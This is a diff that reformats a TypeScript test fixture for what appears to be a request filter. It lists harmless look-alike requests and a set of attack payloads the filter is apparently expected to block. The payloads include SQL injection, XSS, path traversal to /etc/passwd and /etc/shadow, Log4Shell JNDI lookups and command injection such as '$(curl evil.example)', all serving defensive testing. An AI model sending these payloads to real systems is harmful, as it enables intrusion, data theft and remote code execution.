@@ -26,26 +26,83 @@ export interface HarmlessRequest {
 }
 
 export const HARMLESS_REQUESTS: readonly HarmlessRequest[] = [
-  { reason: 'a page of a list', url: '/api/notes?limit=20&cursor=eyJpZCI6IjEifQ' },
-  { reason: 'a cursor with padding', url: '/api/notes?cursor=eyJ1cGRhdGVkQXQiOiIyMDI2In0%3D' },
-  { reason: 'times', url: '/api/audit/records?from=2026-01-01T00:00:00.000Z&to=2026-02-01T00%3A00%3A00%2B01%3A00' },
-  { reason: 'a search for SQL', url: `/api/search?q=${encodeURIComponent("' OR 1=1 -- union select")}` },
-  { reason: 'a search for a script', url: '/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
-  { reason: 'a search with words of SQL', url: '/api/search?q=select+union+or+drop+table' },
-  { reason: 'a tag of a programmer', url: '/api/notes?tag=c%2B%2B&tag=%27or%27' },
-  { reason: 'an address', url: "/api/auth/users?email=sean.o'hara%40example.org" },
-  { reason: 'an address with a plus', url: '/api/auth/users?email=a%2Bb%40example.org' },
-  { reason: 'a name with words of SQL', url: '/api/auth/users?search=Anderson+or+Orlando' },
-  { reason: 'a name with an apostrophe and a word', url: "/api/auth/users?search=O'Brien+and+sons" },
+  {
+    reason: 'a page of a list',
+    url: '/api/notes?limit=20&cursor=eyJpZCI6IjEifQ',
+  },
+  {
+    reason: 'a cursor with padding',
+    url: '/api/notes?cursor=eyJ1cGRhdGVkQXQiOiIyMDI2In0%3D',
+  },
+  {
+    reason: 'times',
+    url: '/api/audit/records?from=2026-01-01T00:00:00.000Z&to=2026-02-01T00%3A00%3A00%2B01%3A00',
+  },
+  {
+    reason: 'a search for SQL',
+    url: `/api/search?q=${encodeURIComponent("' OR 1=1 -- union select")}`,
+  },
+  {
+    reason: 'a search for a script',
+    url: '/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
+  },
+  {
+    reason: 'a search with words of SQL',
+    url: '/api/search?q=select+union+or+drop+table',
+  },
+  {
+    reason: 'a tag of a programmer',
+    url: '/api/notes?tag=c%2B%2B&tag=%27or%27',
+  },
+  {
+    reason: 'an address',
+    url: "/api/auth/users?email=sean.o'hara%40example.org",
+  },
+  {
+    reason: 'an address with a plus',
+    url: '/api/auth/users?email=a%2Bb%40example.org',
+  },
+  {
+    reason: 'a name with words of SQL',
+    url: '/api/auth/users?search=Anderson+or+Orlando',
+  },
+  {
+    reason: 'a name with an apostrophe and a word',
+    url: "/api/auth/users?search=O'Brien+and+sons",
+  },
   { reason: 'a French name', url: "/api/auth/users?search=Jean+d'or+rouge" },
-  { reason: 'a path to come back to', url: '/api/auth/oauth/company/start?returnTo=%2Fnotes%2F1%3Ftab%3Dhistory' },
-  { reason: 'an answer of a provider', url: '/api/auth/oauth/company/callback?state=ab-_cd&code=4%2F0AX4XfWh--_&scope=openid+email&iss=https%3A%2F%2Fid.example' },
-  { reason: 'an error of a provider', url: '/api/auth/oauth/company/callback?state=a&error=access_denied&error_description=The+user+said+%22no%22%3B+select+another' },
-  { reason: 'a signed link', url: '/api/notes/uploads/3b241101-e2bb-4255-8caf-4136c566a962?signature=eyJh.eyJi.c-_d' },
-  { reason: 'a key with dots and dashes', url: '/api/config/environments/production/keys/notes.list--limit_max' },
-  { reason: 'an encoded space and letter', url: '/api/config/environments/my%20team/keys/gr%C3%B6%C3%9Fe' },
-  { reason: 'a UUID', url: '/api/notes/3b241101-e2bb-4255-8caf-4136c566a962/versions/12' },
-  { reason: 'a filter with an operator', url: '/api/audit/records?action=note.created&outcome=success|failure' },
+  {
+    reason: 'a path to come back to',
+    url: '/api/auth/oauth/company/start?returnTo=%2Fnotes%2F1%3Ftab%3Dhistory',
+  },
+  {
+    reason: 'an answer of a provider',
+    url: '/api/auth/oauth/company/callback?state=ab-_cd&code=4%2F0AX4XfWh--_&scope=openid+email&iss=https%3A%2F%2Fid.example',
+  },
+  {
+    reason: 'an error of a provider',
+    url: '/api/auth/oauth/company/callback?state=a&error=access_denied&error_description=The+user+said+%22no%22%3B+select+another',
+  },
+  {
+    reason: 'a signed link',
+    url: '/api/notes/uploads/3b241101-e2bb-4255-8caf-4136c566a962?signature=eyJh.eyJi.c-_d',
+  },
+  {
+    reason: 'a key with dots and dashes',
+    url: '/api/config/environments/production/keys/notes.list--limit_max',
+  },
+  {
+    reason: 'an encoded space and letter',
+    url: '/api/config/environments/my%20team/keys/gr%C3%B6%C3%9Fe',
+  },
+  {
+    reason: 'a UUID',
+    url: '/api/notes/3b241101-e2bb-4255-8caf-4136c566a962/versions/12',
+  },
+  {
+    reason: 'a filter with an operator',
+    url: '/api/audit/records?action=note.created&outcome=success|failure',
+  },
   {
     reason: 'the headers of a browser',
     url: '/api/notes',
@@ -69,7 +126,8 @@ export const HARMLESS_REQUESTS: readonly HarmlessRequest[] = [
     reason: 'the headers of tools',
     url: '/api/notes',
     headers: {
-      'user-agent': 'curl/8.5.0 (x86_64-pc-linux-gnu) libcurl/8.5.0 OpenSSL/3.0.13',
+      'user-agent':
+        'curl/8.5.0 (x86_64-pc-linux-gnu) libcurl/8.5.0 OpenSSL/3.0.13',
       'idempotency-key': "it's-(select)-one",
       'cache-control': 'no-cache, max-age=0',
       priority: 'u=1, i',
@@ -85,13 +143,20 @@ export const HARMLESS_REQUESTS: readonly HarmlessRequest[] = [
     reason: 'a person with an apostrophe',
     url: '/api/auth/register',
     method: 'POST',
-    json: { email: 'a@b.example', name: "Robert'); DROP TABLE students;--", password: 'x' },
+    json: {
+      email: 'a@b.example',
+      name: "Robert'); DROP TABLE students;--",
+      password: 'x',
+    },
   },
   {
     reason: 'a value of the configuration',
     url: '/api/config/environments/dev/keys/a',
     method: 'PUT',
-    json: { value: { html: '<script>', sql: "select '1'='1'" }, comment: "it's; drop table" },
+    json: {
+      value: { html: '<script>', sql: "select '1'='1'" },
+      comment: "it's; drop table",
+    },
   },
 ];
 
@@ -104,26 +169,80 @@ export interface Attack {
 }
 
 const sqli = [
-  "1' OR '1'='1", "' or 1=1--", '" or ""="', "admin'--", "admin' #", "1 or 1=1",
-  "1) or (1=1", "' OR 'x' LIKE 'x", "1' AND SLEEP(5)#", '1 UNION SELECT username, password FROM users',
-  '1 UNION/**/ALL/**/SELECT NULL,NULL', "1'; DROP TABLE notes; --", "x'; DELETE FROM users --",
-  "1; SELECT pg_sleep(10)", "'; WAITFOR DELAY '0:0:5'--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
-  "'||(SELECT 1)||'", "1' and extractvalue(1,concat(0x7e,version()))--", "'; exec xp_cmdshell('dir')--",
-  '%31%27%20%6f%72%20%31%3d%31%2d%2d', "1%2527%2520or%25201=1--", "ＵＮＩＯＮ ＳＥＬＥＣＴ 1",
-  "1' un\u200Bion sel\u200Bect 1 --", "a' or true--", "') or ('1'='1",
+  "1' OR '1'='1",
+  "' or 1=1--",
+  '" or ""="',
+  "admin'--",
+  "admin' #",
+  '1 or 1=1',
+  '1) or (1=1',
+  "' OR 'x' LIKE 'x",
+  "1' AND SLEEP(5)#",
+  '1 UNION SELECT username, password FROM users',
+  '1 UNION/**/ALL/**/SELECT NULL,NULL',
+  "1'; DROP TABLE notes; --",
+  "x'; DELETE FROM users --",
+  '1; SELECT pg_sleep(10)',
+  "'; WAITFOR DELAY '0:0:5'--",
+  '1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)',
+  "'||(SELECT 1)||'",
+  "1' and extractvalue(1,concat(0x7e,version()))--",
+  "'; exec xp_cmdshell('dir')--",
+  '%31%27%20%6f%72%20%31%3d%31%2d%2d',
+  '1%2527%2520or%25201=1--',
+  'ＵＮＩＯＮ ＳＥＬＥＣＴ 1',
+  "1' un\u200Bion sel\u200Bect 1 --",
+  "a' or true--",
+  "') or ('1'='1",
 ];
 const xss = [
-  '<script>alert(1)</script>', '<ScRiPt src=//evil.example>', '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>', '"><script>x</script>', '" onmouseover="alert(1)', 'javascript:alert(1)',
-  'JaVa\tScRiPt:alert(1)', '&#x3C;script&#x3E;alert(1)', '%253Cscript%253Ealert(1)', '<iframe src=x>',
-  '<math><mi//xlink:href="x">', 'data:text/html,<b>', "<a href='javascript&colon;alert(1)'>",
-  '<body onpageshow=alert(1)>', '<details open ontoggle=alert(1)>', 'document.cookie=1',
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '"><script>x</script>',
+  '" onmouseover="alert(1)',
+  'javascript:alert(1)',
+  'JaVa\tScRiPt:alert(1)',
+  '&#x3C;script&#x3E;alert(1)',
+  '%253Cscript%253Ealert(1)',
+  '<iframe src=x>',
+  '<math><mi//xlink:href="x">',
+  'data:text/html,<b>',
+  "<a href='javascript&colon;alert(1)'>",
+  '<body onpageshow=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  'document.cookie=1',
 ];
-const traversal = ['../../etc/passwd', '..%2f..%2fetc%2fpasswd', '....//....//../etc/shadow', '..\\..\\windows\\win.ini', '/proc/self/environ', 'file:///etc/hosts', 'php://filter/x'];
-const injection = ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:rmi://x}', '${${::-j}ndi:x}', '{{7*7}}', "{{constructor.constructor('x')()}}", '<%= 7*7 %>', '; cat /etc/hostname', '| whoami', '$(curl evil.example)', '`id`', '() { :;}; echo', 'a\r\nSet-Cookie: a=b'];
+const traversal = [
+  '../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  '....//....//../etc/shadow',
+  '..\\..\\windows\\win.ini',
+  '/proc/self/environ',
+  'file:///etc/hosts',
+  'php://filter/x',
+];
+const injection = [
+  '${jndi:ldap://evil.example/a}',
+  '${${lower:j}ndi:rmi://x}',
+  '${${::-j}ndi:x}',
+  '{{7*7}}',
+  "{{constructor.constructor('x')()}}",
+  '<%= 7*7 %>',
+  '; cat /etc/hostname',
+  '| whoami',
+  '$(curl evil.example)',
+  '`id`',
+  '() { :;}; echo',
+  'a\r\nSet-Cookie: a=b',
+];
 
 const inQuery = (rule: string, list: readonly string[]): Attack[] =>
-  list.map(value => ({ rule, url: `/api/notes?sort=${encodeURIComponent(value)}` }));
+  list.map(value => ({
+    rule,
+    url: `/api/notes?sort=${encodeURIComponent(value)}`,
+  }));
 
 export const ATTACKS: readonly Attack[] = [
   ...inQuery('sqli', sqli),
@@ -133,13 +252,41 @@ export const ATTACKS: readonly Attack[] = [
   { rule: 'xss', url: '/api/notes?%3Cscript%3Ealert(1)%3C/script%3E=1' },
   { rule: 'sqli', url: '/api/notes/1%27%20or%201=1--' },
   { rule: 'xss', url: '/api/notes/%3Cscript%3E' },
-  { rule: 'injection', url: '/api/notes', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } },
+  {
+    rule: 'injection',
+    url: '/api/notes',
+    headers: { 'user-agent': '${jndi:ldap://evil.example/a}' },
+  },
   { rule: 'sqli', url: '/api/notes', headers: { 'x-tenant': "1' or '1'='1" } },
-  { rule: 'xss', url: '/api/notes', headers: { 'accept-language': '<script>alert(1)</script>' } },
-  { rule: 'sqli', url: '/api/auth/login', method: 'POST', json: { email: "admin'--", password: 'x' } },
-  { rule: 'sqli', url: '/api/notes', method: 'POST', json: { title: 'x', "a' or 1=1--": 1 } },
-  { rule: 'xss', url: '/api/config/x', method: 'POST', json: { owner: ['<script>alert(1)</script>'] } },
-  { rule: 'injection', url: '/api/auth/login', method: 'POST', json: { email: '${jndi:ldap://x/a}' } },
+  {
+    rule: 'xss',
+    url: '/api/notes',
+    headers: { 'accept-language': '<script>alert(1)</script>' },
+  },
+  {
+    rule: 'sqli',
+    url: '/api/auth/login',
+    method: 'POST',
+    json: { email: "admin'--", password: 'x' },
+  },
+  {
+    rule: 'sqli',
+    url: '/api/notes',
+    method: 'POST',
+    json: { title: 'x', "a' or 1=1--": 1 },
+  },
+  {
+    rule: 'xss',
+    url: '/api/config/x',
+    method: 'POST',
+    json: { owner: ['<script>alert(1)</script>'] },
+  },
+  {
+    rule: 'injection',
+    url: '/api/auth/login',
+    method: 'POST',
+    json: { email: '${jndi:ldap://x/a}' },
+  },
   { rule: 'path', url: '/api/notes/../auth/users' },
   { rule: 'path', url: '/api/notes/%2e%2e/auth' },
   { rule: 'path', url: '/api/notes/%252e%252e/auth' },
